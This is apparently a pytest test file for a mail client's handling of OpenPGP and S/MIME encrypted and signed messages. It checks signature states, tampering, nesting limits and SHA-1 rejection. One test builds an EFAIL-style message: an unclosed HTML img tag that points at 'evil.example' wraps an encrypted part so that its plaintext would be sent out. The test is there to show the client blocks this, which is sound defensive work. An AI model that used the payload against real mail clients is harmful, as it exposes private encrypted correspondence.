"""Encrypted and signed mail opened for a person: layer by layer, by the keys on record, or not at all."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from desktop.crypto.openpgp_seal import OpenPgpSealer
from desktop.crypto.smime import AES_GCM, Identity, SmimeSealer
from desktop.errors import InputError
from desktop.mail import replies
from desktop.mail.opened import STEP, MailOpener, OpenedMail, Words, Writer
from desktop.models import identities, keys
from desktop.models.correspondence import Signature
from desktop.models.database import Tx
from desktop.models.records import KeyId, KeyKind, PersonId, PublicKey
from tests.practice.office import MONDAY, SENDER, Practice, own_openpgp, own_smime
from tests.support.gpg import Correspondents, correspondents
from tests.support.replies import sealed_reply
from tests.support.signed_mail import INNER, TEXT, by_pgp, by_smime, head, signed_by_pgp, signed_by_smime
from tests.support.smime_readers import certify, identity

MARIA = "maria@example.org"
NONE, GOOD, UNKNOWN, WRONG = Signature.NONE, Signature.GOOD, Signature.UNKNOWN, Signature.WRONG
PERSON = PersonId("0" * 32)
NOBODY = Writer(MARIA)
"""Whose keys nobody knows."""


@pytest.fixture(scope="module")
def people() -> Iterator[Correspondents]:
    with correspondents() as made:
        yield made


@pytest.fixture(scope="module")
def maria(people: Correspondents) -> str:
    people.run("--import", data=own_openpgp().public)
    return people.make(f"Maria Lopez <{MARIA}>")


@cache
def marias() -> Identity:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return identity(key, certify(key, MARIA, MONDAY))


@pytest.fixture
def keyed(office: Practice) -> Practice:
    pgp, smime, now = own_openpgp(), own_smime(), office.clock.now()

    def put(tx: Tx) -> None:
        identities.put(tx, KeyKind.OPENPGP, pgp.fingerprint, SENDER, pgp.secret, pgp.public, now)
        identities.put(tx, KeyKind.SMIME, "s", SENDER, smime.key_der, smime.cert_der, now)
        replies.make_keys(tx)

    office.db.write(put)
    return office


@pytest.fixture
def opener(keyed: Practice) -> Iterator[MailOpener]:
    made = MailOpener(keyed.db)
    yield made
    made.worker.close()


def on_record(kind: KeyKind, data: bytes, fingerprint: str, address: str = MARIA) -> Writer:
    key = PublicKey(KeyId("k"), PERSON, kind, fingerprint, (address,), data, None, "file", MONDAY)
    return Writer(MARIA, PERSON, (key,))


def pgp_key(people: Correspondents, key: str, address: str = MARIA) -> Writer:
    return on_record(KeyKind.OPENPGP, people.public(key), key, address)


def sealed(people: Correspondents, plain: bytes, *options: str) -> bytes:
    return people.run("--armor", "-r", own_openpgp().fingerprint, *options, "--encrypt", data=plain).stdout


def read(opener: MailOpener, raw: bytes, writer: Writer = NOBODY) -> tuple[OpenedMail, Words]:
    mail = opener.open(raw, writer)
    return mail, opener.words(mail)


def refused(opener: MailOpener, raw: bytes, writer: Writer = NOBODY) -> str:
    with pytest.raises(InputError) as caught:
        read(opener, raw, writer)
    return caught.value.code


def words_of(opener: MailOpener, raw: bytes, writer: Writer = NOBODY) -> str:
    return read(opener, raw, writer)[1].own


def test_pgp_mime_gives_its_words_subject_and_files(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    mail, words = read(opener, by_pgp(sealed(people, INNER), MARIA))
    assert (words.own, words.text) == ("May I come on Tuesday?", "May I come on Tuesday?")
    assert words.subject == "About my visit"
    assert [(one.name, one.part) for one in words.files] == [("results.pdf", STEP + 1)]
    assert opener.file(mail, STEP + 1) == ("results.pdf", b"PDF")
    assert (mail.sealed, mail.signature) == (True, NONE)
    with pytest.raises(InputError, match="file-gone"):
        opener.file(mail, 5 * STEP)


def test_signed_and_encrypted_by_the_key_on_record(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    raw = by_pgp(sealed(people, INNER, "--local-user", maria, "--sign"), MARIA)
    assert read(opener, raw, pgp_key(people, maria))[0].signature is GOOD
    assert read(opener, raw)[0].signature is UNKNOWN
    assert read(opener, raw, pgp_key(people, maria, "other@example.org"))[0].signature is UNKNOWN


def test_a_text_in_armour_is_opened_apart_from_what_stands_around_it(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    armored = sealed(people, "Grüße, may I come?".encode())
    raw = head(MARIA) + b"Content-Type: text/plain\r\n\r\nIn the open.\r\n\r\n" + armored
    mail, words = read(opener, raw)
    assert words.own == "Grüße, may I come?"
    assert words.text.startswith("Grüße, may I come?\n\nIn the open.")
    signed = sealed(people, b"Signed", "--local-user", maria, "--sign")
    raw = head(MARIA) + b"Content-Type: text/plain\r\n\r\nIn the open.\r\n\r\n" + signed
    assert read(opener, raw, pgp_key(people, maria))[0].signature is NONE
    assert mail.sealed


def test_no_page_can_be_put_around_an_encrypted_part(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    """EFAIL: a page that begins before and ends behind it would send its words away."""
    armored = sealed(people, b"Content-Type: text/html\r\n\r\n<p>secret</p>")
    raw = (
        head(MARIA) + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n"
        b'--m\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
        b"--m\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        b"--m\r\nContent-Type: application/octet-stream\r\n\r\n" + armored + b"\r\n"
        b'--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
    )
    mail, words = read(opener, raw)
    assert words.own == "secret"
    page = opener.worker.page(opener.page_of(mail))
    assert page.html == "<p>secret</p>"


def test_encrypted_files_of_an_armoured_mail(opener: MailOpener, people: Correspondents, maria: str) -> None:
    other = people.make("Somebody <else@example.org>")
    theirs = people.run("--armor", "-r", other, "--encrypt", data=b"not ours").stdout
    raw = (
        head(MARIA)
        + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
        + b"\r\n--m\r\n".join(
            [
                b"Content-Type: text/plain\r\n\r\n" + sealed(people, b"Here it is"),
                b'Content-Type: application/octet-stream; name="scan.pdf.pgp"\r\n\r\n'
                + sealed(people, b"PDF"),
                b'Content-Type: application/octet-stream; name="other.pdf.asc"\r\n\r\n' + theirs,
            ]
        )
        + b"\r\n--m--\r\n"
    )
    mail, words = read(opener, raw)
    assert words.own == "Here it is"
    assert [one.name for one in words.files] == ["other.pdf.asc", "scan.pdf"]
    assert opener.file(mail, words.files[1].part) == ("scan.pdf", b"PDF")
    assert opener.file(mail, words.files[0].part)[1].strip() == theirs.strip()


def test_what_was_altered_or_is_for_others_shows_nothing(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    lines = sealed(people, INNER).splitlines(keepends=True)
    cut = b"".join([*lines[:5], *lines[6:]])
    assert refused(opener, by_pgp(cut, MARIA)) == "message-unopenable"
    key = own_openpgp()
    broken = bytearray(OpenPgpSealer(key.secret).seal(INNER, key.public, key.fingerprint))
    at = broken.index(b"\n\n") + 200
    broken[at] = ord("A") if broken[at] != ord("A") else ord("B")
    assert refused(opener, by_pgp(bytes(broken), MARIA)) == "message-unopenable"
    other = people.make("Third <third@example.org>")
    theirs = people.run("--armor", "-r", other, "--encrypt", data=INNER).stdout
    assert refused(opener, by_pgp(theirs, MARIA)) == "message-unopenable"


def test_signatures_beside_and_within_a_text(opener: MailOpener, people: Correspondents, maria: str) -> None:
    good, writer = signed_by_pgp(people, maria, MARIA), pgp_key(people, maria)
    for raw, who, state in [
        (good, writer, GOOD),
        (good, Writer(MARIA), UNKNOWN),
        (good.replace(b"Tuesday", b"Thursday"), writer, WRONG),
    ]:
        mail, words = read(opener, raw, who)
        assert (mail.signature, mail.sealed) == (state, False)
        assert [one.name for one in words.files] == ["results.pdf"]
    clear = people.run("--local-user", maria, "--clear-sign", data=b"May I come?\n- yes\n").stdout
    raw = head(MARIA) + b"Content-Type: text/plain\r\n\r\n" + clear
    mail, words = read(opener, raw, writer)
    assert (mail.signature, words.own) == (GOOD, "May I come?\n- yes")
    assert read(opener, raw.replace(b"come", b"go"), writer)[0].signature is WRONG
    beside = raw.replace(b"\r\n\r\n", b"\r\n\r\nMore above\r\n", 1)
    assert read(opener, beside, writer)[0].signature is NONE


def test_smime_in_every_way(opener: MailOpener, tmp_path: Path) -> None:
    own, maria = own_smime(), marias()
    writer = on_record(KeyKind.SMIME, maria.cert_der, "m")
    sealer = SmimeSealer(maria)
    for wish in ((), (AES_GCM,)):
        plain = by_smime(sealer.encrypt(INNER, own.cert_der, wish), MARIA)
        mail, words = read(opener, plain, writer)
        assert (words.own, mail.signature, mail.sealed) == ("May I come on Tuesday?", NONE, True)
        both = by_smime(sealer.seal(INNER, own.cert_der, wish), MARIA)
        mail, words = read(opener, both, writer)
        assert (words.own, mail.signature, words.subject) == (
            "May I come on Tuesday?",
            GOOD,
            "About my visit",
        )
        assert opener.file(mail, words.files[0].part) == ("results.pdf", b"PDF")
        clear = signed_by_smime(tmp_path, maria, "")
        mail, words = read(opener, by_smime(sealer.encrypt(clear, own.cert_der, wish), MARIA), writer)
        assert (words.own, mail.signature) == ("May I come on Tuesday?", GOOD)
    assert read(opener, both, on_record(KeyKind.SMIME, own.cert_der, "o"))[0].signature is UNKNOWN
    assert read(opener, both)[0].signature is UNKNOWN


def test_smime_signed_alone(opener: MailOpener, tmp_path: Path) -> None:
    writer = on_record(KeyKind.SMIME, marias().cert_der, "m")
    for opaque in (False, True):
        raw = signed_by_smime(tmp_path, marias(), MARIA, opaque=opaque)
        mail, words = read(opener, raw, writer)
        assert (mail.signature, words.own, mail.sealed) == (GOOD, "May I come on Tuesday?", False)
        assert [one.name for one in words.files] == ["results.pdf"]
    clear = signed_by_smime(tmp_path, marias(), MARIA)
    assert read(opener, clear.replace(b"Tuesday", b"Thursday"), writer)[0].signature is WRONG


def test_a_wrong_signature_under_a_cipher_without_a_check_shows_nothing(
    opener: MailOpener, tmp_path: Path
) -> None:
    own, clear = own_smime(), signed_by_smime(tmp_path, marias(), "").replace(b"Tuesday", b"Thursday")
    sealer = SmimeSealer(marias())
    assert refused(opener, by_smime(sealer.encrypt(clear, own.cert_der), MARIA)) == "mail-altered"
    mail, words = read(opener, by_smime(sealer.encrypt(clear, own.cert_der, (AES_GCM,)), MARIA))
    assert (mail.signature, words.own) == (WRONG, "May I come on Thursday?")


def test_a_locked_pages_answer_is_opened_for_its_own_reader(opener: MailOpener, keyed: Practice) -> None:
    means = keyed.db.read(replies.means)
    assert means is not None
    block = sealed_reply(means.public, means.new_file(PERSON), bytes(32), "Yes, thank you")
    raw = head(MARIA) + b"Content-Type: text/plain\r\n\r\n" + block
    assert words_of(opener, raw, Writer(MARIA, PERSON)) == "Yes, thank you"
    assert refused(opener, raw, Writer(MARIA, PersonId("1" * 32))) == "reply-other-person"
    assert refused(opener, raw) == "reply-other-person"


def test_seals_within_seals_have_an_end(opener: MailOpener, people: Correspondents, maria: str) -> None:
    raw = TEXT
    for _ in range(3):
        raw = by_pgp(sealed(people, raw), MARIA)
    assert words_of(opener, raw) == "May I come on Tuesday?"
    for _ in range(3):
        raw = by_pgp(sealed(people, raw), MARIA)
    assert refused(opener, raw) == "message-unopenable"


def test_of_mail_as_it_comes_in_the_signature_is_known(
    opener: MailOpener, keyed: Practice, people: Correspondents, maria: str
) -> None:
    raw = signed_by_pgp(people, maria, MARIA)
    assert opener.signature(raw, MARIA, MONDAY) is UNKNOWN
    person = keyed.person(email=MARIA)
    key = PublicKey(
        KeyId("k1"), person.id, KeyKind.OPENPGP, maria, (MARIA,), people.public(maria), None, "file", MONDAY
    )
    keyed.db.write(lambda tx: keys.add(tx, key))
    assert opener.signature(raw, MARIA, MONDAY) is GOOD
    assert opener.signature(raw.replace(b"Tuesday", b"Thursday"), MARIA, MONDAY) is WRONG
    assert opener.signature(raw, "other@example.org", MONDAY) is UNKNOWN
    assert opener.signature(by_pgp(b"broken", MARIA), MARIA, MONDAY) is NONE


def test_a_signature_by_sha1_proves_nothing_alone(
    opener: MailOpener, people: Correspondents, maria: str
) -> None:
    old = ("--digest-algo", "SHA1", "--armor", "--local-user", maria)
    signature = people.run(*old, "--detach-sign", data=INNER).stdout
    good = signed_by_pgp(people, maria, MARIA)
    begin, end = good.index(b"-----BEGIN PGP SIG"), good.index(b"\r\n--s--")
    raw = good[:begin] + signature + good[end:]
    assert opener.open(raw, pgp_key(people, maria)).signature is UNKNOWN
    assert opener.open(by_pgp(sealed(people, INNER, *old, "--sign"), MARIA), pgp_key(people, maria)).sealed
